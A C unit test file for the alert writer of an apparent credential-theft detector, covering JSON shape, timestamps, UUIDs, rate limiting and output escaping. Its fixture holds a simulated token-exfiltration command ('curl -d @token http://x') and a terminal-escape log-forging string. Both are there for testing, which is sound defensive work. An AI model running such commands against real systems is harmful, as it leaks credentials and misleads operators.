// SPDX-License-Identifier: Apache-2.0
/* test_alert.c - alert JSON shape, time, uuid, text escaping, rate limiting. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <cjson/cJSON.h>
#include <cmocka.h>

#include "user/alert.h"
#include "user/fields.h"
#include "user/rules.h"

#define SEC 1000000000ull

static struct alert_writer *new_writer(const struct alert_opts *o, FILE *out)
{
	struct alert_writer *w = NULL;

	assert_int_equal(alert_writer_new(&w, o, out), 0);
	assert_non_null(w);
	return w;
}

struct fixture {
	char dir[64];
	struct rules *rules;
	const struct cw_rule *rule;
	struct cw_record rec;
};

static void grab(void *ctx, const struct cw_rule *rule, const struct cw_record *rec)
{
	*(const struct cw_rule **)ctx = rule;
}

static int setup(void **state)
{
	struct fixture *fx = calloc(1, sizeof(*fx));
	struct rules_diag d;
	const char *files[1];
	char path[128];
	FILE *f;

	strcpy(fx->dir, "/tmp/cw-test-alert-XXXXXX");
	if (!mkdtemp(fx->dir))
		return -1;
	snprintf(path, sizeof(path), "%s/r.yaml", fx->dir);
	f = fopen(path, "w");
	fputs("- rule: Token read\n  desc: d\n  priority: critical\n"
	      "  condition: cred.kind = sa_token\n  tags: [credwatch, T1528]\n"
	      "  output: \"token read by %proc.name (cmd=%proc.cmdline pod=%k8s.pod.name)\"\n", f);
	fclose(f);
	files[0] = path;
	if (rules_load(&fx->rules, files, 1, &d))
		return -1;
	record_reset(&fx->rec);
	field_set_str(&fx->rec, CW_F_CRED_KIND, 0, "sa_token");
	field_set_str(&fx->rec, CW_F_PROC_NAME, 0, "curl");
	field_set_str(&fx->rec, CW_F_PROC_CMDLINE, 0, "curl -d @token http://x");
	field_set_str(&fx->rec, CW_F_CONTAINER_ID, 0, "c0ffee");
	field_set_u64(&fx->rec, CW_F_PROC_PID, 0, 77);
	fx->rec.time_ns = 1763858601000000042ull;
	if (rules_eval(fx->rules, &fx->rec, grab, &fx->rule) != 1)
		return -1;
	*state = fx;
	return 0;
}

static int teardown(void **state)
{
	struct fixture *fx = *state;
	char cmd[128];

	rules_free(fx->rules);
	snprintf(cmd, sizeof(cmd), "rm -rf %s", fx->dir);
	free(fx);
	return system(cmd);
}

static bool uuid_v4_ok(const char *u)
{
	if (strlen(u) != 36 || u[8] != '-' || u[13] != '-' || u[18] != '-' || u[23] != '-')
		return false;
	if (u[14] != '4' || !strchr("89ab", u[19]))
		return false;
	for (int i = 0; i < 36; i++)
		if (u[i] != '-' && !strchr("0123456789abcdef", u[i]))
			return false;
	return true;
}

static void test_alert_json_has_falco_shape(void **state)
{
	struct fixture *fx = *state;
	struct alert a;
	struct jbuf jb;
	cJSON *o, *of, *tags;

	alert_init(&a, fx->rule, &fx->rec);
	jbuf_init(&jb);
	alert_render_json(&a, "node-1", &jb);
	assert_null(strchr(jb.buf, '\n'));
	o = cJSON_Parse(jb.buf);
	assert_non_null(o);
	assert_int_equal(cJSON_GetArraySize(o), 9);
	assert_string_equal(cJSON_GetObjectItem(o, "time")->valuestring,
			    "2025-11-23T00:43:21.000000042Z");
	assert_string_equal(cJSON_GetObjectItem(o, "rule")->valuestring, "Token read");
	assert_string_equal(cJSON_GetObjectItem(o, "priority")->valuestring, "Critical");
	assert_string_equal(cJSON_GetObjectItem(o, "output")->valuestring,
			    "token read by curl (cmd=curl -d @token http://x pod=<NA>)");
	assert_string_equal(cJSON_GetObjectItem(o, "source")->valuestring, "credwatch");
	assert_string_equal(cJSON_GetObjectItem(o, "hostname")->valuestring, "node-1");
	assert_string_equal(cJSON_GetObjectItem(o, "uuid")->valuestring, a.uuid);
	assert_true(uuid_v4_ok(a.uuid));
	of = cJSON_GetObjectItem(o, "output_fields");
	assert_true(cJSON_IsObject(of));
	assert_int_equal(cJSON_GetArraySize(of), 5);
	assert_string_equal(cJSON_GetObjectItem(of, "proc.name")->valuestring, "curl");
	/* every alert says how many opens it stands for */
	assert_int_equal(cJSON_GetObjectItem(of, "evt.count")->valueint, 1);
	assert_true(cJSON_IsNull(cJSON_GetObjectItem(of, "k8s.pod.name")));
	assert_non_null(strstr(jb.buf, "\"evt.time\":1763858601000000042"));
	tags = cJSON_GetObjectItem(o, "tags");
	assert_int_equal(cJSON_GetArraySize(tags), 2);
	assert_string_equal(cJSON_GetArrayItem(tags, 1)->valuestring, "T1528");
	cJSON_Delete(o);
	jbuf_free(&jb);
}

static void test_alert_time_is_rfc3339_ns_utc(void **state)
{
	char buf[64];

	assert_string_equal(alert_time_format(0, buf, sizeof(buf)), "1970-01-01T00:00:00.000000000Z");
	assert_string_equal(alert_time_format(1763858601123456789ull, buf, sizeof(buf)),
			    "2025-11-23T00:43:21.123456789Z");
}

static int cmp_str(const void *a, const void *b)
{
	return strcmp(a, b);
}

static void test_alert_uuid_is_v4_and_unique(void **state)
{
	enum { N = 2000 };
	char (*u)[37] = calloc(N, sizeof(*u));

	for (int i = 0; i < N; i++) {
		alert_uuid(u[i]);
		assert_true(uuid_v4_ok(u[i]));
	}
	qsort(u, N, sizeof(*u), cmp_str);
	for (int i = 1; i < N; i++)
		assert_string_not_equal(u[i - 1], u[i]);
	free(u);
}

struct sink {
	int n;
	char *lines[256];
	const struct cw_record *recs[256];	/* what each line is about; NULL: a summary */
};

static void capture(void *ctx, const struct cw_record *rec, const char *json, size_t len)
{
	struct sink *s = ctx;

	if (s->n < 256) {
		s->recs[s->n] = rec;
		s->lines[s->n++] = strndup(json, len);
	}
}

static void sink_free(struct sink *s)
{
	for (int i = 0; i < s->n; i++)
		free(s->lines[i]);
	s->n = 0;
}

static void test_alert_rate_limit_counts_and_reports_suppressed(void **state)
{
	struct fixture *fx = *state;
	struct sink s = { 0 };
	struct alert_opts o = {
		.rate = 2, .burst = 5, .summary_interval_ns = 10 * SEC,
		.hostname = "h", .sink = capture, .sink_ctx = &s,
	};
	struct alert_writer *w = new_writer(&o, NULL);
	uint64_t t = 1000 * SEC, written, suppressed;
	int ok = 0;
	cJSON *j, *of, *by;

	assert_non_null(w);
	assert_int_equal(alert_writer_tick(w, t), 0);
	for (int i = 0; i < 100; i++)		/* a loop hammering one token */
		ok += alert_writer_emit(w, fx->rule, &fx->rec, t);
	assert_int_equal(ok, 5);		/* the burst */
	/* one second refills rate = 2 tokens */
	ok = 0;
	for (int i = 0; i < 10; i++)
		ok += alert_writer_emit(w, fx->rule, &fx->rec, t + SEC);
	assert_int_equal(ok, 2);
	/* another reader has its own bucket */
	field_set_str(&fx->rec, CW_F_CONTAINER_ID, 0, "host");
	assert_int_equal(alert_writer_emit(w, fx->rule, &fx->rec, t + SEC), 1);
	field_set_str(&fx->rec, CW_F_CONTAINER_ID, 0, "c0ffee");
	alert_writer_stats(w, &written, &suppressed);
	assert_int_equal(written, 8);
	assert_int_equal(suppressed, 95 + 8);
	assert_int_equal(s.n, 8);
	assert_ptr_equal(s.recs[7], &fx->rec);	/* the dump stores the alert with its record */

	/* no summary before the interval, one after */
	assert_int_equal(alert_writer_tick(w, t + 5 * SEC), 0);
	assert_int_equal(s.n, 8);
	assert_int_equal(alert_writer_tick(w, t + 10 * SEC), 1);
	assert_int_equal(s.n, 9);
	assert_null(s.recs[8]);
	j = cJSON_Parse(s.lines[8]);
	assert_non_null(j);
	assert_string_equal(cJSON_GetObjectItem(j, "rule")->valuestring, ALERT_SUPPRESSED_RULE);
	assert_string_equal(cJSON_GetObjectItem(j, "priority")->valuestring, "Notice");
	assert_string_equal(cJSON_GetObjectItem(j, "source")->valuestring, "credwatch");
	assert_true(uuid_v4_ok(cJSON_GetObjectItem(j, "uuid")->valuestring));
	assert_non_null(strstr(cJSON_GetObjectItem(j, "output")->valuestring,
			       "103 alerts suppressed by rate limiting in the last 10s: Token read (container c0ffee): 103"));
	of = cJSON_GetObjectItem(j, "output_fields");
	assert_int_equal(cJSON_GetObjectItem(of, "credwatch.suppressed")->valuedouble, 103);
	by = cJSON_GetObjectItem(of, "credwatch.suppressed_by");
	assert_int_equal(cJSON_GetArraySize(by), 1);
	assert_string_equal(cJSON_GetObjectItem(cJSON_GetArrayItem(by, 0), "reader")->valuestring,
			    "container c0ffee");
	cJSON_Delete(j);

	/* counts reset: nothing more to report */
	assert_int_equal(alert_writer_tick(w, t + 30 * SEC), 0);
	assert_int_equal(alert_writer_flush(w, t + 31 * SEC), 0);
	/* held back again, reported by flush at exit even inside the interval */
	assert_int_equal(alert_writer_emit(w, fx->rule, &fx->rec, t + 31 * SEC), 1);
	for (int i = 0; i < 10; i++)
		alert_writer_emit(w, fx->rule, &fx->rec, t + 31 * SEC);
	assert_int_equal(alert_writer_flush(w, t + 31 * SEC), 1);
	assert_non_null(strstr(s.lines[s.n - 1], "\"credwatch.suppressed\":6"));
	sink_free(&s);
	alert_writer_free(w);
}

static void test_alert_rate_zero_means_unlimited(void **state)
{
	struct fixture *fx = *state;
	struct sink s = { 0 };
	struct alert_opts o = { .rate = 0, .hostname = "h", .sink = capture, .sink_ctx = &s };
	struct alert_writer *w = new_writer(&o, NULL);
	int ok = 0;

	for (int i = 0; i < 200; i++)
		ok += alert_writer_emit(w, fx->rule, &fx->rec, 5 * SEC);
	assert_int_equal(ok, 200);
	/* every alert has its own uuid */
	assert_string_not_equal(strstr(s.lines[0], "\"uuid\""), strstr(s.lines[1], "\"uuid\""));
	sink_free(&s);
	alert_writer_free(w);
}

static void test_alert_many_readers_never_lose_counts(void **state)
{
	struct fixture *fx = *state;
	struct sink s = { 0 };
	struct alert_opts o = { .rate = 1, .burst = 1, .hostname = "h", .sink = capture, .sink_ctx = &s };
	struct alert_writer *w = new_writer(&o, NULL);
	uint64_t written, suppressed;
	cJSON *j;

	for (int pid = 1; pid <= 3000; pid++) {	/* more readers than buckets */
		field_set_str(&fx->rec, CW_F_CONTAINER_ID, 0, "host");
		field_set_u64(&fx->rec, CW_F_PROC_PID, 0, (uint64_t)pid);
		alert_writer_emit(w, fx->rule, &fx->rec, SEC);
		alert_writer_emit(w, fx->rule, &fx->rec, SEC);
	}
	alert_writer_stats(w, &written, &suppressed);
	assert_int_equal(written + suppressed, 6000);
	sink_free(&s);
	assert_int_equal(alert_writer_flush(w, 2 * SEC), 1);
	j = cJSON_Parse(s.lines[0]);
	assert_int_equal((uint64_t)cJSON_GetObjectItem(cJSON_GetObjectItem(j, "output_fields"),
						      "credwatch.suppressed")->valuedouble, suppressed);
	cJSON_Delete(j);
	sink_free(&s);
	alert_writer_free(w);
	field_set_str(&fx->rec, CW_F_CONTAINER_ID, 0, "c0ffee");
}

static void test_alert_text_has_no_control_characters(void **state)
{
	struct fixture *fx = *state;
	struct alert_opts o = { .rate = 0, .hostname = "h", .text = true };
	char *buf = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&buf, &len);
	struct alert_writer *w = new_writer(&o, out);

	field_set_str(&fx->rec, CW_F_PROC_CMDLINE, 0, "evil\033[2J\r\nforged line\a\x7f\xff");
	assert_int_equal(alert_writer_emit(w, fx->rule, &fx->rec, SEC), 1);
	alert_writer_free(w);
	fclose(out);
	assert_int_equal(buf[len - 1], '\n');
	for (size_t i = 0; i + 1 < len; i++)
		if ((unsigned char)buf[i] < 0x20 || buf[i] == 0x7f)
			fail_msg("control byte 0x%02x at %zu in: %s", (unsigned char)buf[i], i, buf);
	assert_non_null(strstr(buf, "2025-11-23T00:43:21.000000042Z Critical Token read: token read by curl"));
	free(buf);

	o.color = true;
	buf = NULL;
	out = open_memstream(&buf, &len);
	w = new_writer(&o, out);
	assert_int_equal(alert_writer_emit(w, fx->rule, &fx->rec, SEC), 1);
	alert_writer_free(w);
	fclose(out);
	assert_non_null(strstr(buf, " \033[1;31mCritical\033[0m Token read: "));
	assert_null(strstr(buf, "\033[2J"));
	free(buf);
	field_set_str(&fx->rec, CW_F_PROC_CMDLINE, 0, "curl -d @token http://x");
}

static void builtin_fields(void *ctx, struct jbuf *jb)
{
	jbuf_kv_str(jb, "k8s.pod.name", ctx);
	jbuf_kv_u64(jb, "credwatch.throttled", 1234);
}

/* A built-in alert (the flood alert): Falco shape, never rate-limited. */
static void test_alert_builtin_has_falco_shape_and_no_limit(void **state)
{
	static const char *const tags[] = { "credwatch", "flood" };
	struct sink s = { 0 };
	struct alert_opts o = { .rate = 1, .burst = 1, .hostname = "h", .sink = capture,
				.sink_ctx = &s };
	struct alert_writer *w = new_writer(&o, NULL);
	struct alert_builtin b = {
		.rule = "credwatch: pod throttled", .priority = CW_PRIO_WARNING,
		.time_ns = 1763858601000000042ull, .output = "Pod a/b flooded", .tags = tags,
		.ntags = 2, .fields = builtin_fields, .ctx = "web-1",
	};
	cJSON *j, *of;

	(void)state;
	for (int i = 0; i < 3; i++)
		assert_int_equal(alert_writer_emit_builtin(w, &b), 1);
	assert_non_null(s.lines[2]);
	j = cJSON_Parse(s.lines[0]);
	assert_non_null(j);
	assert_int_equal(cJSON_GetArraySize(j), 9);
	assert_string_equal(cJSON_GetObjectItem(j, "rule")->valuestring, "credwatch: pod throttled");
	assert_string_equal(cJSON_GetObjectItem(j, "priority")->valuestring, "Warning");
	assert_string_equal(cJSON_GetObjectItem(j, "output")->valuestring, "Pod a/b flooded");
	assert_string_equal(cJSON_GetObjectItem(j, "time")->valuestring,
			    "2025-11-23T00:43:21.000000042Z");
	of = cJSON_GetObjectItem(j, "output_fields");
	assert_string_equal(cJSON_GetObjectItem(of, "k8s.pod.name")->valuestring, "web-1");
	assert_int_equal(cJSON_GetObjectItem(of, "credwatch.throttled")->valueint, 1234);
	assert_true(cJSON_IsNumber(cJSON_GetObjectItem(of, "evt.time")));
	assert_int_equal(cJSON_GetArraySize(cJSON_GetObjectItem(j, "tags")), 2);
	assert_true(uuid_v4_ok(cJSON_GetObjectItem(j, "uuid")->valuestring));
	cJSON_Delete(j);
	sink_free(&s);
	alert_writer_free(w);
}

/* An aggregated record's alert says how many opens in text too. */
static void test_alert_text_names_the_count_of_aggregated_records(void **state)
{
	struct fixture *fx = *state;
	struct alert_opts o = { .rate = 0, .hostname = "h", .text = true };
	char *buf = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&buf, &len);
	struct alert_writer *w = new_writer(&o, out);

	fx->rec.count = 250;
	assert_int_equal(alert_writer_emit(w, fx->rule, &fx->rec, SEC), 1);
	fx->rec.count = 1;
	assert_int_equal(alert_writer_emit(w, fx->rule, &fx->rec, SEC), 1);
	alert_writer_free(w);
	fclose(out);
	assert_non_null(strstr(buf, "http://x pod=<NA>) (evt.count=250)\n"));
	assert_non_null(strstr(buf, "http://x pod=<NA>)\n"));
	free(buf);
}

static void test_alert_write_failure_is_reported(void **state)
{
	struct fixture *fx = *state;
	struct alert_opts o = { .rate = 0, .hostname = "h" };
	FILE *ro = fopen("/dev/null", "r");
	struct alert_writer *w = new_writer(&o, ro);

	assert_int_equal(alert_writer_emit(w, fx->rule, &fx->rec, SEC), -EIO);
	alert_writer_free(w);
	fclose(ro);
	alert_writer_free(NULL);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_alert_json_has_falco_shape),
		cmocka_unit_test(test_alert_builtin_has_falco_shape_and_no_limit),
		cmocka_unit_test(test_alert_text_names_the_count_of_aggregated_records),
		cmocka_unit_test(test_alert_time_is_rfc3339_ns_utc),
		cmocka_unit_test(test_alert_uuid_is_v4_and_unique),
		cmocka_unit_test(test_alert_rate_limit_counts_and_reports_suppressed),
		cmocka_unit_test(test_alert_rate_zero_means_unlimited),
		cmocka_unit_test(test_alert_many_readers_never_lose_counts),
		cmocka_unit_test(test_alert_text_has_no_control_characters),
		cmocka_unit_test(test_alert_write_failure_is_reported),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
